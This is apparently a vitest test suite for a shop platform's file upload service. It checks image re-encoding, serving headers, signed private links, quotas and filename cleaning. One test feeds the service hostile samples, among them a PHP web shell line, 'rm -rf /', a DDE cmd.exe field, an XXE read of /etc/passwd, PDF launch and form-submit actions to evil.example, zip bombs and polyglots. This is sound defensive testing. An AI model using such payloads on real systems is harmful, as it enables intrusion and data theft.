import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Ctx } from '../../../kernel/http/context.ts';
import type { Shop } from '../../../kernel/tenancy/shop.ts';
import { type TestApp, testApp } from '../../../kernel/testkit/app.ts';
import { type MadeEntry, madeZip } from '../../../kernel/testkit/made-zip.ts';
import { platformOf } from '../../../kernel/testkit/platform.ts';
import { type SignedInPerson, signedInPerson } from '../../../kernel/testkit/sign-in.ts';
import { countUpload } from './commands/count-upload.ts';
import { removeBytes } from './commands/remove-bytes.ts';
import { removeFormerFiles } from './commands/remove-files.ts';
import type { FileObject } from './contract.ts';
import { tidyName } from './rules.ts';

const picture = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#a61f38' } });
const WORD: MadeEntry[] = [
  {
    name: '[Content_Types].xml',
    content:
      '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  },
  { name: 'word/document.xml', content: '<w:document><w:t>知情同意书</w:t></w:document>' },
];
const docx = (...more: MadeEntry[]) => madeZip([...WORD, ...more]);
const pdf = (inside = '', after = '') =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj <</Type/Catalog ${inside}>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n${after}`,
    'latin1',
  );
const hiddenPdf = (text: string) => {
  const packed = deflateSync(Buffer.from(text));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n2 0 obj <</Type/ObjStm/N 1/First 4/Length ${packed.length}/Filter/FlateDecode>>\nstream\n`),
    packed,
    Buffer.from('\nendstream endobj\n%%EOF\n'),
  ]);
};

describe('files', () => {
  let app: TestApp;
  let shop: Shop;
  let other: Shop;
  let member: SignedInPerson;
  let now = new Date('2026-11-21T02:00:00Z');
  beforeAll(async () => {
    app = await testApp({ now: () => now });
    [shop, other] = [await app.makeShop(), await app.makeShop()];
    member = await signedInPerson(app, shop, 'site');
  });
  afterAll(() => app.close());

  const upload = async (
    bytes: Buffer,
    name: string,
    purpose = 'document',
    who: SignedInPerson = member,
    path = '/api/file/upload',
  ) => {
    const line = '----medley';
    const payload = Buffer.concat([
      Buffer.from(`--${line}\r\ncontent-disposition: form-data; name="purpose"\r\n\r\n${purpose}\r\n`),
      Buffer.from(`--${line}\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\n`),
      Buffer.from('content-type: image/png\r\n\r\n'),
      bytes,
      Buffer.from(`\r\n--${line}--\r\n`),
    ]);
    const headers = { ...who.headers, 'content-type': `multipart/form-data; boundary=${line}` };
    const answer = await app.app.server.inject({ method: 'POST', url: path, headers, payload });
    return { status: answer.statusCode, body: answer.json<{ data: FileObject; code: string }>() };
  };
  const get = (url: string, of = shop, headers: Record<string, string> = {}) =>
    app.app.server.inject({ url, headers: { host: `${of.code}.localhost`, ...headers } });

  it('UP-2 draws a picture anew in several sizes, turned upright, without place and device', async () => {
    // No larger than its sizes need: what is drawn anew is bounded by the time of a call.
    const sent = await picture(1400, 700)
      .jpeg()
      .withExif({ IFD0: { Make: 'CANARY-DEVICE', Orientation: '6' }, IFD3: { GPSLatitude: '31/1 12/1 0/1' } })
      .toBuffer();
    expect(sent.toString('latin1')).toContain('CANARY-DEVICE');
    const { status, body } = await upload(sent, '会场.JPG', 'avatar');
    expect(status).toBe(200);
    expect(body.data).toMatchObject({
      mime: 'image/webp',
      name: '会场.JPG',
      url: expect.stringMatching(/^\/api\/file\//),
    });
    const sizes = body.data.variants.map(({ width, mime }) => `${width} ${mime}`);
    expect(sizes).toEqual(expect.arrayContaining(['320 image/webp', '640 image/webp', '640 image/avif']));
    for (const { url } of [body.data, ...body.data.variants]) {
      const answer = await get(url);
      expect(answer.statusCode).toBe(200);
      expect(answer.rawPayload.toString('latin1')).not.toMatch(/CANARY|Exif|GPS/);
      expect((await sharp(answer.rawPayload).metadata()).exif).toBeUndefined();
    }
    const whole = await get(body.data.url);
    expect(createHash('sha256').update(whole.rawPayload).digest('hex')).toBe(body.data.sha256);
  });

  it('are taken and served on the platform’s own host as in a shop', async () => {
    const platform = await platformOf(app);
    const keeper = await signedInPerson(app, platform, 'staff', ['*']);
    const host = { host: 'admin.localhost', origin: 'http://admin.localhost' };
    const who = { ...keeper, headers: { ...keeper.headers, ...host } };
    const sent = await upload(await picture(20, 10).png().toBuffer(), 'a.png', 'cover', who, '/api/admin/file/upload');
    expect(sent.status, JSON.stringify(sent.body)).toBe(200);
    expect((await get(sent.body.data.url, platform, host)).statusCode).toBe(200);
    expect((await get(sent.body.data.url)).statusCode).toBe(404);
  });

  it('UP-3 serves files with nosniff, a sandbox, and attachment unless picture or PDF', async () => {
    const cover = (await upload(await picture(10, 10).png().toBuffer(), 'a.png', 'avatar')).body.data;
    const { headers } = await get(cover.url);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'content-type': 'image/webp',
      'cache-control': 'public, max-age=300',
    });
    expect(headers['content-disposition']).toMatch(/^inline;/);
    const paper = (await upload(docx(), '同意书.docx')).body.data;
    const document = await get(paper.url);
    expect(document.headers['content-disposition']).toBe(
      `attachment; filename*=UTF-8''${encodeURIComponent('同意书.docx')}`,
    );
    expect(document.headers['cache-control']).toBe('private, no-store');
  });

  it('UP-4 gives private files short addresses that any altered character spoils', async () => {
    const { url } = (await upload(pdf(), 'a.pdf')).body.data;
    expect((await get(url)).statusCode).toBe(200);
    expect((await get(url, other)).statusCode).toBe(404);
    const [path = '', query = ''] = url.split('?');
    expect((await get(path)).statusCode).toBe(404);
    expect(
      (await get(`${path}?${query.replace(/until=(\d+)/, (_, until) => `until=${Number(until) + 1}`)}`)).statusCode,
    ).toBe(404);
    for (let at = url.indexOf('proof=') + 6; at < url.length; at += 7) {
      const altered = url.slice(0, at) + (url[at] === 'a' ? 'b' : 'a') + url.slice(at + 1);
      expect((await get(altered)).statusCode, altered).toBe(404);
    }
    now = new Date(now.getTime() + 299_000);
    expect((await get(url)).statusCode).toBe(200);
    now = new Date(now.getTime() + 2_000);
    expect((await get(url)).statusCode).toBe(404);
  });

  it('finds public files by number and hash alone, and none of another shop', async () => {
    const { id, url } = (await upload(await picture(8, 8).png().toBuffer(), 'a.png', 'avatar')).body.data;
    expect((await get(url, other)).statusCode).toBe(404);
    expect((await get(`/api/file/${id}/${'0'.repeat(24)}.webp`)).statusCode).toBe(404);
    expect((await get(`/api/file/${id}/x`)).statusCode).toBe(400);
    expect((await get(`/api/file/show/${id}`)).statusCode).toBe(200);
  });

  it('shows a private file to its owner alone', async () => {
    const { id } = (await upload(pdf(), 'a.pdf')).body.data;
    const someone = await signedInPerson(app, shop, 'site');
    expect((await get(`/api/file/show/${id}`, shop, member.headers)).statusCode).toBe(200);
    expect((await get(`/api/file/show/${id}`, shop, someone.headers)).statusCode).toBe(404);
    expect((await get(`/api/file/show/${id}`)).statusCode).toBe(404);
  });

  it('takes uploads of members and of staff, each at their own address, and of no visitor', async () => {
    const staff = await signedInPerson(app, shop, 'staff', ['*']);
    const bytes = await picture(8, 8).png().toBuffer();
    expect((await upload(bytes, 'a.png', 'cover', staff, '/api/admin/file/upload')).status).toBe(200);
    expect((await upload(bytes, 'a.png', 'cover', member, '/api/admin/file/upload')).status).toBe(401);
    const { authorization: _token, ...visitor } = member.headers;
    expect((await upload(bytes, 'a.png', 'avatar', { ...member, headers: visitor })).status).toBe(401);
  });

  it('UP-1 keeps to the space a member has', async () => {
    await app.services.settings.save(app.ctx(other), [{ key: 'file.personQuota', value: 1 }], '');
    const there = await signedInPerson(app, other, 'site');
    const noise = Buffer.alloc(700_000);
    for (let index = 0; index < noise.length; index += 1) noise[index] = (index * 7919) % 251;
    const big = Buffer.concat([Buffer.from('%PDF-1.7\n'), noise, Buffer.from('\n%%EOF\n')]);
    expect((await upload(big, 'a.pdf', 'document', there)).status).toBe(200);
    expect((await upload(big, 'b.pdf', 'document', there)).body).toMatchObject({ code: 'file.quota' });
  });

  it('counts uploads that arrive together as if they came one after the other', async () => {
    const own = await app.makeShop();
    await app.services.settings.save(app.ctx(own), [{ key: 'file.personQuota', value: 1 }], '');
    const there = await signedInPerson(app, own, 'site');
    const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(400_000, 'x'), Buffer.from('\n%%EOF\n')]);
    const many = await Promise.all(
      Array.from({ length: 6 }, (_, index) => upload(bytes, `${index}.pdf`, 'document', there)),
    );
    expect(many.filter(({ status }) => status === 200)).toHaveLength(2);
    expect(many.filter(({ body }) => body.code === 'file.quota')).toHaveLength(4);
  });

  it('takes from a member what is about them, and nothing into the library that pages are made of', async () => {
    const bytes = await picture(8, 8).png().toBuffer();
    for (const purpose of ['cover', 'content', 'captions', 'video', 'lecture']) {
      expect((await upload(bytes, 'a.png', purpose)).body.code, purpose).toBe('INVALID_INPUT');
    }
  });

  it('draws no more for a member in an hour than anybody needs', async () => {
    const busy = await signedInPerson(app, shop, 'site');
    const ctx = { ...app.ctx(shop), person: { id: busy.memberId } as NonNullable<Ctx['person']> };
    for (let times = 0; times < 120; times += 1) await countUpload(ctx);
    const bytes = await picture(8, 8).png().toBuffer();
    expect((await upload(bytes, 'a.png', 'avatar', busy)).status).toBe(429);
    expect((await upload(bytes, 'a.png', 'avatar')).status).toBe(200);
  });

  it('removes the bytes of removed files in a later night, every size of them, and once', async () => {
    const own = await app.makeShop();
    const there = await signedInPerson(app, own, 'site');
    const sent = await picture(900, 900).png().toBuffer();
    const [former, present] = [
      (await upload(sent, 'a.png', 'avatar', there)).body.data,
      (await upload(sent, 'b.png', 'avatar', there)).body.data,
    ];
    const ctx = app.ctx(own);
    const keys = async (id: number) => {
      const row = await ctx.db.row<{ key: string; size: number; variants: { key: string }[] }>(
        'select key, size, variants from file where shop_id = $1 and id = $2',
        [own.id, id],
      );
      return { size: row?.size, all: [row?.key ?? '', ...(row?.variants ?? []).map(({ key }) => key)] };
    };
    const [gone, stays] = [await keys(former.id), await keys(present.id)];
    expect(gone.all.length).toBeGreaterThan(1);
    const kept = async (all: string[]) =>
      (await Promise.all(all.map((key) => app.services.storage.stat(key)))).filter((found) => found !== null).length;
    await ctx.db.write((tx) =>
      removeFormerFiles(ctx, tx, { ownerId: there.memberId, purpose: 'avatar', keep: present.id }),
    );
    expect((await get(former.url, own)).statusCode).toBe(404);
    await removeBytes(ctx);
    expect(await kept(gone.all)).toBe(gone.all.length);
    const before = now;
    now = new Date(now.getTime() + 25 * 3_600_000);
    await removeBytes(ctx);
    await removeBytes(ctx);
    now = before;
    expect([await kept(gone.all), await kept(stays.all)]).toEqual([0, stays.all.length]);
    expect((await keys(former.id)).size).toBe(0);
    expect((await get(present.url, own)).statusCode).toBe(200);
  });

  it('UP-2 stores none of a corpus of hostile files as anything active', async () => {
    const png = await picture(20, 20).png().toBuffer();
    const gif = await picture(20, 20).gif().toBuffer();
    const hugePng = Buffer.from(png);
    hugePng.writeUInt32BE(65_000, 16);
    hugePng.writeUInt32BE(65_000, 20);
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const html = Buffer.from('<!doctype html><html><script>alert(1)</script></html>');
    const word = (text: string): Buffer =>
      madeZip(WORD.map((entry) => (entry.name.startsWith('word/') ? { ...entry, content: text } : entry)));
    const bomb = docx({ name: 'word/media/a.xml', content: Buffer.alloc(60_000_000) });
    const refused: [string, Buffer, string][] = [
      ['svg', svg, 'a.svg'],
      ['svg named png', svg, 'a.png'],
      ['svg with a prolog', Buffer.concat([Buffer.from('<?xml version="1.0"?>'), svg]), 'a.png'],
      ['html', html, 'a.html'],
      ['html named jpg', html, 'a.jpg'],
      ['html named pdf', html, 'a.pdf'],
      ['php', Buffer.from('<?php system($_GET[0]);'), 'a.php'],
      ['script named png', Buffer.from('#!/bin/sh\nrm -rf /'), 'a.png'],
      ['exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]), 'a.exe'],
      ['elf named pdf', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200)]), 'a.pdf'],
      ['swf', Buffer.concat([Buffer.from('CWS\x0a'), Buffer.alloc(200)]), 'a.swf'],
      ['tiff', await picture(9, 9).tiff().toBuffer(), 'a.tiff'],
      ['right bytes, wrong ending', png, 'a.gif'],
      ['double ending', png, 'a.png.html'],
      ['ending hidden by direction marks', png, 'a\u202egnp.exe'],
      ['no ending', png, 'png'],
      ['png with 65k by 65k', hugePng, 'a.png'],
      ['cut png', png.subarray(0, 40), 'a.png'],
      ['empty', Buffer.alloc(0), 'a.png'],
      ['zip', madeZip([{ name: 'a.txt', content: 'x' }]), 'a.zip'],
      ['zip named docx', madeZip([{ name: 'a.txt', content: 'x' }]), 'a.docx'],
      ['jar named docx', madeZip([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]), 'a.docx'],
      ['docx named pdf', docx(), 'a.pdf'],
      ['docx with a macro', docx({ name: 'word/vbaProject.bin', content: 'x' }), 'a.docx'],
      ['docx with an archive inside', docx({ name: 'word/embeddings/a.zip', content: 'x' }), 'a.docx'],
      ['docx with an object', docx({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), 'a.docx'],
      ['docx with a link', docx({ name: 'word/media/a.png', content: '/etc/passwd', link: true }), 'a.docx'],
      ['docx that climbs', docx({ name: '../../etc/cron.d/x', content: 'x' }), 'a.docx'],
      ['docx with an absolute name', docx({ name: '/etc/passwd', content: 'x' }), 'a.docx'],
      ['docx with two of a name', docx({ name: 'word/document.xml', content: 'x' }), 'a.docx'],
      ['docx with DDE', word('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>'), 'a.docx'],
      ['docx with an entity', word('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><a>&y;</a>'), 'a.docx'],
      [
        'docx with a template from elsewhere',
        docx({
          name: 'word/_rels/settings.xml.rels',
          content: '<Relationship Type="x/attachedTemplate" Target="http://evil.example/a" TargetMode="External"/>',
        }),
        'a.docx',
      ],
      ['zip bomb', bomb, 'a.docx'],
      ['zip that lies about its size', docx({ name: 'word/a.xml', content: 'x'.repeat(5000), claims: 10 }), 'a.docx'],
      [
        'zip with a thousand and one entries',
        docx(...Array.from({ length: 1000 }, (_, n) => ({ name: `w/${n}.xml`, content: '' }))),
        'a.docx',
      ],
      ['zip with something behind it', Buffer.concat([docx(), html]), 'a.docx'],
      ['pdf with a script', pdf('/OpenAction <</S/JavaScript/JS(app.alert(1))>>'), 'a.pdf'],
      ['pdf with a disguised script', pdf('/OpenAction <</S/J#61vaScript/J#53(app.alert(1))>>'), 'a.pdf'],
      ['pdf that starts a program', pdf('/OpenAction <</S/Launch/F(cmd.exe)>>'), 'a.pdf'],
      ['pdf with a file inside', pdf('/Names <</EmbeddedFiles 3 0 R>>'), 'a.pdf'],
      ['pdf that sends a form', pdf('/A <</S/SubmitForm/F(http://evil.example)>>'), 'a.pdf'],
      ['pdf with a hidden script', hiddenPdf('1 0 <</S/JavaScript/JS(app.alert(1))>>'), 'a.pdf'],
      ['pdf under a password', pdf('/Encrypt 9 0 R'), 'a.pdf'],
      [
        'pdf that is an archive too',
        Buffer.concat([pdf().subarray(0, -6), madeZip([{ name: 'a', content: 'b' }]), Buffer.from('%%EOF\n')]),
        'a.pdf',
      ],
      ['pdf that begins as html', Buffer.concat([Buffer.from('%PDF-1.7 <html><script>'), pdf()]), 'a.pdf'],
      ['html before a pdf', Buffer.concat([html, pdf()]), 'a.pdf'],
    ];
    for (const [what, bytes, name] of refused) {
      const { status, body } = await upload(bytes, name);
      expect([400, 413, 415], `${what}: ${JSON.stringify(body)}`).toContain(status);
    }
    const polyglots: [string, Buffer, string][] = [
      ['gif that is a script', Buffer.concat([gif, Buffer.from('/*<script>alert(1)</script>*/')]), 'a.gif'],
      ['png with an archive behind it', Buffer.concat([png, docx()]), 'a.png'],
      ['png with html behind it', Buffer.concat([png, html]), 'a.png'],
    ];
    for (const [what, bytes, name] of polyglots) {
      const { status, body } = await upload(bytes, name);
      expect(status, what).toBe(200);
      const kept = await get(body.data.url);
      expect(kept.rawPayload.toString('latin1'), what).not.toMatch(/script|PK\x05\x06/);
    }
    expect((await upload(pdf(), 'a.pdf', 'avatar')).status).toBe(415);
    expect((await upload(docx(), 'a.docx')).status).toBe(200);
  });
});

describe('names of files', () => {
  it.each([
    ['../../etc/passwd', 'passwd'],
    ['C:\\temp\\报告.pdf', '报告.pdf'],
    ['a\u202egnp.exe', 'agnp.exe'],
    ['a\r\nset-cookie: x.png', 'aset-cookie x.png'],
    ['.htaccess', 'htaccess'],
    ['', 'file'],
    [`${'长'.repeat(200)}.pdf`, `${'长'.repeat(116)}.pdf`],
  ])('%j is kept as %j', (sent, kept) => {
    expect(tidyName(sent)).toBe(kept);
  });
});
